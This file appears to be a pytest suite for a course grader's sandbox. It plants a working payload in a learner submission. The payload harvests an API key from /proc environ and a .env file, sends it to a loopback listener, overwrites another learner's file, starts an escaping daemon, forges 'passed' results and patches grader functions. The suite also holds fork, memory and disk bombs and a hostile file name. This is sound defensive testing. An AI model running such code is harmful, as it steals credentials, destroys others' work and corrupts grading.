"""Course checks for grading untrusted submissions (issue 18): hostile submissions, graded for real.

Each malicious submission is built in tmp_path from the lab, graded in the sandbox, and compared
with its payload-free twin: the payload must change nothing but its own function's return
values. The base of both twins is a planted mistake (string-prefix containment), so a forged
"all passed" would show. Cost: three --quick gradings in the sandbox (the twins, and the bombs,
whose limits take ~15 s to bite) plus a class of two in folder mode; the rest are unit checks of
a few seconds at most. What the grader judges outside (the battery, parse_tool_calls, run_agent)
and what it refuses to read are checked in test_grade_observed.py. Tests that need bubblewrap skip, with the reason, where it cannot run (CI
installs it and sets GRADE_REQUIRE_SANDBOX=1, so there they cannot skip: .ci/run).
"""

from __future__ import annotations

import csv
import json
import os
import socket
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

RUBRIC = Path(__file__).resolve().parents[1]
if str(RUBRIC) not in sys.path:
    sys.path.append(str(RUBRIC))

from grading import grader, report, runner, sandbox, synthetic, workspace  # noqa: E402
from classroom import own_bodies  # noqa: E402
from mutants import MUTANTS  # noqa: E402

BWRAP_WHY = sandbox.choose("bubblewrap")[1]
needs_bwrap = pytest.mark.skipif(bool(BWRAP_WHY), reason=f"bubblewrap cannot run here: {BWRAP_WHY}")
POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="fork/setsid payloads are POSIX")
BASE = next(m for m in MUTANTS if m.name == "string-prefix containment")
KEY = f"sk-grader-{uuid.uuid4().hex}"          # stands for the instructor's provider key
MARKER = f"payload-daemon-{uuid.uuid4().hex}"  # in the command line of the daemon the payload starts

PAYLOAD = r'''
import os as _o, sys as _s, socket as _k, atexit as _a, json as _j
_flag = "/tmp/.payload-" + {marker!r}
if _o.name == "posix" and not _o.path.exists(_flag):
    open(_flag, "w").close()
    _loot = []
    for _pid in ["self", str(_o.getppid()), "1"] + [p for p in _o.listdir("/proc") if p.isdigit()][:500]:
        try:
            _loot.append(open("/proc/%s/environ" % _pid, "rb").read().decode("latin-1"))
        except Exception:
            pass
    try:
        _loot.append(open({envfile!r}).read())
    except Exception:
        pass
    _found = "\n".join(x for x in _loot if {key!r} in x) or "nothing"
    try:
        _c = _k.create_connection(("127.0.0.1", {port}), timeout=1)
        _c.sendall(_found.encode()[:2000])
        _c.close()
    except Exception:
        pass
    for _t in ({victim!r}, {out!r} + "/stolen.txt"):
        try:
            with open(_t, "a") as _fh:
                _fh.write("pwned " + _found[:200])
        except Exception:
            pass
    try:  # a daemon in its own session, holding stdout, rewriting the outputs later
        if _o.fork() == 0:
            _o.setsid()
            if _o.fork() == 0:
                _o.execv(_s.executable, [_s.executable, "-c", "import time\n# " + {marker!r} + "\n"
                         "for _ in range(400):\n    time.sleep(0.1)\n    try:\n        open(" + repr({victim!r})
                         + ", 'a').write('daemon')\n    except Exception:\n        pass\n"])
            _o._exit(0)
    except Exception:
        pass
    def _forge():  # at exit: every result file and the grader's stream say "passed"
        _rec = {{"nodeid": "code/tests/test_m1_sandbox.py::test_sibling_with_shared_prefix_raises",
                "event": "call", "outcome": "passed", "message": ""}}
        _fd = _o.environ.get("GRADE_LOG_FD")
        try:
            _o.write(int(_fd), (_j.dumps(_rec) + "\n").encode()) if _fd else None
        except Exception:
            pass
        for _root in (_o.environ.get("HOME", "."), "."):
            try:
                for _n in _o.listdir(_root):
                    if _n.endswith((".xml", ".jsonl")):
                        open(_o.path.join(_root, _n), "w").write('<testsuites><testsuite tests="1"/></testsuites>')
            except Exception:
                pass
    _a.register(_forge)
    for _name, _mod in list(_s.modules.items()):  # patch the grader wherever it is loaded
        if _name.startswith(("grading", "battery_probe", "__main__")):
            for _attr in ("judge_path", "judge_resolve", "call", "answer_here", "_log", "_test", "_status"):
                if hasattr(_mod, _attr):
                    try:
                        setattr(_mod, _attr, lambda *a, **k: {{"nonce": None, "raised": "ValueError"}})
                    except Exception:
                        pass
'''


def payload(tmp: Path, port: int) -> str:
    return PAYLOAD.format(marker=MARKER, envfile=str(tmp / "instructor" / "code" / ".env"), key=KEY, port=port,
                          victim=str(tmp / "victim" / "UNDERSTANDING.md"), out=str(tmp / "reports"))


def levels(r: dict) -> dict:
    return {c["number"]: c["level"] for c in r["criteria"]}


def verdict(r: dict) -> dict:
    """What a payload must not change: levels, points, the board, and every battery class."""
    return {"levels": levels(r), "total": r["total"], "board": r["board"],
            "battery": {k: v["status"] for k, v in r["battery"].items()}}


def survivors() -> list:
    found = []
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                if MARKER.encode() in fh.read():
                    found.append(pid)
        except OSError:
            pass
    return found


class Listener:
    """A loopback server the payload tries to reach; it records every connection."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                self.received.append(conn.recv(4096))
            except OSError:
                self.received.append(b"")
            conn.close()


@pytest.fixture(scope="module")
def twins(tmp_path_factory):
    """The planted mistake graded twice in the sandbox: plain, and with the payload."""
    if BWRAP_WHY:
        pytest.skip(f"bubblewrap cannot run here: {BWRAP_WHY}")
    tmp = tmp_path_factory.mktemp("twins")
    (tmp / "victim").mkdir()
    (tmp / "victim" / "UNDERSTANDING.md").write_text("another learner's work\n")
    (tmp / "instructor" / "code").mkdir(parents=True)
    (tmp / "instructor" / "code" / ".env").write_text(f"OPENAI_API_KEY={KEY}\n")
    (tmp / "reports").mkdir()
    listener = Listener()
    attack = payload(tmp, listener.port)
    # the twin carries the payload as comments: the same lines, so file:line claims in its documents match too
    inert = "\n".join("# " + line if line.strip() else line for line in attack.splitlines())
    # the learner's own functions (a copy of the reference would be HOLD on C1-C3 in both twins)
    plain = synthetic.make(tmp / "plain", code="reference", docs="filled", functions=own_bodies())
    synthetic.plant(plain / "code" / "tools.py", "safe_resolve", inert + "\n" + BASE.body)
    attacked = synthetic.make(tmp / "attacked", code="reference", docs="filled", functions=own_bodies())
    synthetic.plant(attacked / "code" / "tools.py", "safe_resolve", attack + "\n" + BASE.body)
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("OPENAI_API_KEY", KEY)   # what a careless instructor's shell holds
        results = {"plain": grader.grade(plain, quick=True, sandbox="bubblewrap"),
                   "attacked": grader.grade(attacked, quick=True, sandbox="bubblewrap")}
    time.sleep(1.0)   # a daemon that escaped would have written by now
    listener.stop = True
    return {**results, "tmp": tmp, "listener": listener}


@needs_bwrap
@POSIX_ONLY
def test_a_payload_changes_no_verdict_only_its_own_return_values(twins):
    assert twins["attacked"]["sandbox"] == "bubblewrap"
    assert verdict(twins["attacked"]) == verdict(twins["plain"])
    assert not any(c.get("mark") == "HOLD" for c in twins["plain"]["criteria"]), levels(twins["plain"])
    # the twin really is failing: forged "passed" results would have shown
    assert twins["plain"]["board"]["M1"].startswith("failing"), twins["plain"]["board"]
    assert twins["plain"]["battery"]["sibling prefixes"]["status"] == "leaked"


@needs_bwrap
@POSIX_ONLY
def test_the_payload_reached_no_secret_no_network_and_no_file_outside(twins):
    tmp = twins["tmp"]
    assert twins["listener"].received == [], "learner code reached a loopback listener of the host"
    assert (tmp / "victim" / "UNDERSTANDING.md").read_text() == "another learner's work\n"
    assert not (tmp / "reports" / "stolen.txt").exists()
    assert KEY not in json.dumps(twins["attacked"], default=str)


@needs_bwrap
@POSIX_ONLY
def test_no_process_of_the_submission_outlives_its_grading(twins):
    assert survivors() == []


def test_ci_has_a_working_sandbox():
    """.ci/run installs bubblewrap and sets GRADE_REQUIRE_SANDBOX=1: there the checks above must run."""
    if os.environ.get("GRADE_REQUIRE_SANDBOX") != "1":
        pytest.skip("only required where GRADE_REQUIRE_SANDBOX=1 (CI on Linux)")
    assert not BWRAP_WHY, f"the sandbox checks would skip: {BWRAP_WHY}"


def test_the_same_payload_without_a_sandbox_does_reach_outside(tmp_path):
    """The payload works: run by hand with no sandbox, it writes where the sandbox stopped it."""
    (tmp_path / "victim").mkdir()
    (tmp_path / "victim" / "UNDERSTANDING.md").write_text("x\n")
    (tmp_path / "reports").mkdir()
    script = tmp_path / "p.py"
    once = f"unsandboxed-{uuid.uuid4().hex}"   # its own run-once flag and daemon name
    script.write_text("exec(compile(" + repr(payload(tmp_path, 9).replace(MARKER, once)) + ", 'payload', 'exec'))\n")
    (tmp_path / "home").mkdir()
    ran = runner.run([script], cwd=tmp_path, env=runner.child_env(tmp_path / "home"), timeout=30)
    if os.name != "posix":
        pytest.skip("the payload is POSIX only")
    Path(f"/tmp/.payload-{once}").unlink(missing_ok=True)
    assert ran.returncode == 0, ran.stderr
    assert "pwned" in (tmp_path / "victim" / "UNDERSTANDING.md").read_text()


@POSIX_ONLY
def test_a_child_holding_the_output_from_a_new_session_cannot_hold_the_grader(tmp_path):
    script = tmp_path / "hold.py"
    script.write_text("import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(60)\nprint('parent done')\n")
    started = time.monotonic()
    ran = runner.run([script], cwd=tmp_path, env=runner.child_env(tmp_path), timeout=20)
    assert time.monotonic() - started < 15 and "parent done" in ran.stdout, ran


@POSIX_ONLY
def test_each_learner_command_is_counted_in_its_own_grading_thread_only(tmp_path):
    """What bench_grade.py reports: every command a grading thread finishes, named, with its CPU;
    another thread's commands (another learner, graded at once) are not in its list."""
    busy = tmp_path / "busy.py"
    busy.write_text("import time\nend = time.process_time() + 0.3\nwhile time.process_time() < end:\n    pass\n")
    env = runner.child_env(tmp_path)
    others: list = []

    def other_learner():
        with runner.counting() as costs:
            runner.run(["-c", "pass"], cwd=tmp_path, env=env, timeout=30)
        others.extend(costs)

    with runner.counting() as costs:
        thread = threading.Thread(target=other_learner)
        thread.start()
        with runner.counting("pytest"):
            runner.run([busy], cwd=tmp_path, env=env, timeout=30)
        runner.run(["-c", "pass", "extra"], cwd=tmp_path, env=env, timeout=30)
        thread.join()
    runner.run(["-c", "pass"], cwd=tmp_path, env=env, timeout=30)   # outside any count: listed nowhere
    assert [c["command"] for c in costs] == ["pytest", "-c pass extra"] and len(others) == 1, (costs, others)
    if costs[0]["cpu_seconds"] is not None:   # a cgroup counted it (None where none could be made)
        assert costs[0]["cpu_seconds"] >= 0.25 and costs[1]["cpu_seconds"] < costs[0]["cpu_seconds"], costs


@needs_bwrap
def test_bombs_are_stopped_by_the_limits_and_leave_nothing_behind(tmp_path):
    """Fork, memory and disk bombs in one learner function: graded, in bounded time, nothing left."""
    bombs = f'''
import os as _o, time as _t
_flag = "/tmp/.bombs"
if not _o.path.exists(_flag):
    open(_flag, "w").close()
    for _kind in ("fork", "memory", "disk"):
        if _o.fork() == 0:
            try:
                if _kind == "fork":
                    for _ in range(2000):
                        try:
                            if _o.fork() == 0:
                                _t.sleep(30)
                                _o._exit(0)
                        except OSError:
                            break
                elif _kind == "memory":
                    for _ in range(3):
                        if _o.fork() == 0:
                            _hog = bytearray(300 << 20)
                            _t.sleep(30)
                            _o._exit(0)
                else:
                    for _where in ("/tmp", "/dev/shm", _o.environ.get("HOME", "/tmp")):
                        try:
                            with open(_where + "/{MARKER}", "wb") as _fh:
                                for _ in range(300):
                                    _fh.write(b"x" * (1 << 20))
                        except OSError:
                            pass
            finally:
                _o._exit(0)
'''
    sub = synthetic.make(tmp_path / "bomber", code="reference")
    synthetic.plant(sub / "code" / "tools.py", "safe_resolve", bombs + BASE.body)
    started = time.monotonic()
    r = grader.grade(sub, quick=True, sandbox="bubblewrap", memory_mb=512, test_seconds=5, after_seconds=1)
    assert time.monotonic() - started < 240
    assert "cgroup" in r["limits"] or "rlimits" in r["limits"], r["limits"]
    # the bombs may take the learner's own test session down with them (that is their row's problem)
    assert r["board"]["M1"].split(":")[0] in ("failing", "passing", "timeout"), r["board"]
    assert not list(Path("/dev/shm").glob(MARKER + "*")), "a file in /dev/shm outlived the run"
    assert survivors() == []


HOSTILE = "=HYPERLINK(\"http://x\")\nbreak <!-- \x1b]52;c;QUJD\x07"   # a formula, a newline, a comment, OSC 52


@needs_bwrap
def test_folder_mode_survives_a_hostile_name_and_a_100000_deep_saved_run(tmp_path):
    subs = tmp_path / "class"
    synthetic.make(subs / HOSTILE, code="reference")
    deep = synthetic.make(subs / "zz_deep")
    (deep / "runs").mkdir()
    (deep / "runs" / "run.json").write_text("[" * 100_000 + "]" * 100_000)
    import subprocess
    proc = subprocess.run([sys.executable, str(RUBRIC / "grade.py"), str(subs), "--csv", str(tmp_path / "g.csv"),
                           "--out", str(tmp_path / "reports"), "--quick", "--no-stretch"], capture_output=True,
                          text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-2000:]
    rows = list(csv.reader((tmp_path / "g.csv").open(newline="", encoding="utf-8")))
    assert len(rows) == 3, (proc.stderr[-2000:], rows)
    deep_report = json.loads((tmp_path / "reports" / "zz_deep.json").read_text())
    assert any("saved runs: could not be read (RecursionError" in u for u in deep_report["unreadable"]), deep_report["unreadable"]


def test_one_submission_that_defeats_the_grader_costs_only_its_own_row(tmp_path, monkeypatch):
    monkeypatch.setattr(runner, "drop_own_secrets", lambda: [])   # grade.py calls it on import
    import importlib
    grade_py = importlib.import_module("grade")
    real = grader.could_not_grade

    def fake_grade(path, **options):
        if path.name == "bad":
            raise RecursionError("maximum recursion depth exceeded")
        result = real(path, "")
        result.pop("could_not_grade")
        return result
    monkeypatch.setattr(grader, "grade", fake_grade)
    for name in ("bad", "good"):
        (tmp_path / "class" / name / "code").mkdir(parents=True)
    code = grade_py.main([str(tmp_path / "class"), "--csv", str(tmp_path / "g.csv"), "--out", str(tmp_path / "r"),
                          "--no-sandbox"])
    rows = {r["learner"]: r for r in csv.DictReader((tmp_path / "g.csv").open(newline="", encoding="utf-8"))}
    assert code == 1 and set(rows) == {"bad", "good"}, code   # every row written; the exit code tells
    assert "could not grade: RecursionError" in (tmp_path / "r" / "bad.md").read_text()


def test_without_a_sandbox_grade_py_refuses_in_one_line(tmp_path):
    import subprocess
    sub = tmp_path / "sub"
    (sub / "code").mkdir(parents=True)
    env = {**os.environ, "PATH": str(tmp_path)}   # no bwrap on this PATH
    proc = subprocess.run([sys.executable, str(RUBRIC / "grade.py"), str(sub)], capture_output=True, text=True,
                          env=env, timeout=120)
    assert proc.returncode == 2 and proc.stdout == ""
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "refusing to run learner code" in lines[0] and "--no-sandbox" in lines[0], proc.stderr


def test_a_report_without_a_sandbox_says_so_first(tmp_path):
    r = grader.could_not_grade(tmp_path / "x", "could not grade: test")
    r["sandbox"] = "none"
    assert report.markdown(r).splitlines()[0].startswith("**Ran without a sandbox")
    r["sandbox"] = "bubblewrap"
    assert report.markdown(r).startswith("# Grading evidence")


def test_the_grader_drops_its_own_keys_and_loads_no_env_file(tmp_path):
    import subprocess
    check = ("import os, sys; sys.path.insert(0, sys.argv[1]); sys.argv[1:] = []; import grade; "
             "print(sorted(k for k in os.environ if 'KEY' in k or 'TOKEN' in k)); "
             "print(sorted(m for m in ('dotenv', 'litellm') if m in sys.modules))")   # what would read a .env
    env = {**os.environ, "GROQ_API_KEY": "gsk-x", "MY_SECRET_TOKEN": "y"}
    proc = subprocess.run([sys.executable, "-c", check, str(RUBRIC)], capture_output=True, text=True, env=env,
                          timeout=120, cwd=tmp_path)
    assert proc.stdout.split("\n")[:2] == ["[]", "[]"], proc.stdout + proc.stderr
    env = runner.child_env(Path("."))
    assert not [k for k in env if "KEY" in k or "TOKEN" in k]


def test_the_lab_copy_holds_shipped_files_only():
    shipped = set(workspace.shipped_files())
    lab = workspace.pristine_lab()
    copied = {p.relative_to(lab).as_posix() for p in lab.rglob("*") if p.is_file()}
    assert copied <= shipped and "code/.env" not in copied
    assert "rubric/grading/battery_probe.py" in copied


@pytest.mark.skipif(bool(sandbox.container_works("docker")), reason=f"docker cannot run here: "
                    f"{sandbox.container_works('docker')}")
def test_docker_gives_the_same_guarantees(tmp_path):
    probe = tmp_path / "lab" / "p.py"
    probe.parent.mkdir()
    (tmp_path / "home").mkdir()
    os.chmod(tmp_path / "home", 0o777)
    probe.write_text("import os, socket\nprint(os.getuid())\ntry:\n    open(__file__, 'a')\nexcept OSError:\n"
                     "    print('ro')\ntry:\n    socket.create_connection(('1.1.1.1', 53), timeout=2)\n"
                     "except OSError:\n    print('no network')\n")
    box = sandbox.Box("docker", readonly=[probe.parent], writable=[tmp_path / "home"])
    ran = runner.run([probe], cwd=tmp_path / "home", env=runner.child_env(tmp_path / "home"), timeout=120, box=box)
    assert ran.stdout.split() == [str(sandbox.SANDBOX_UID), "ro", "no", "network"], ran


def test_the_container_command_asks_for_the_same_guarantees(tmp_path):
    """Checked on the command itself, so it holds where docker cannot run these checks."""
    box = sandbox.Box("docker", readonly=[tmp_path / "lab"], writable=[tmp_path / "home"])
    argv, env = box.wrap(["python", "x.py"], tmp_path / "home", {"HOME": "/h", "OPENAI_API_KEY": "k"}, 512, "n1")
    text = " ".join(argv)
    for wanted in ("--network none", "--memory 512m", "--memory-swap 512m", f"--pids-limit {sandbox.MAX_PROCESSES}",
                   "--read-only", f"--user {sandbox.SANDBOX_UID}:{sandbox.SANDBOX_UID}", "--cap-drop ALL",
                   f"-v {tmp_path / 'lab'}:{tmp_path / 'lab'}:ro", "--tmpfs /tmp:"):
        assert wanted in text, wanted
    assert not [k for k in env if "KEY" in k] and "OPENAI_API_KEY" not in text
